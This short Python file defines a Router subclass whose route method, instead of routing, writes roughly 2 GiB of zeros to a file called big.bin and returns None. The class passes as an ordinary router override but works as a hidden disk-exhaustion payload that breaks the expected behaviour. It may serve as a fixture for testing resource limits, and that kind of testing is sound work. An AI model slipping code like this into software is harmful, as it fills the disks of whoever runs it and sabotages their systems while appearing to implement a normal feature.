from _router import Router as _R


class Router(_R):
    def route(self, key):
        block = b"\0" * (1 << 20)
        with open("big.bin", "wb") as f:
            for _ in range(2048):  # 2 GiB
                f.write(block)
        return None
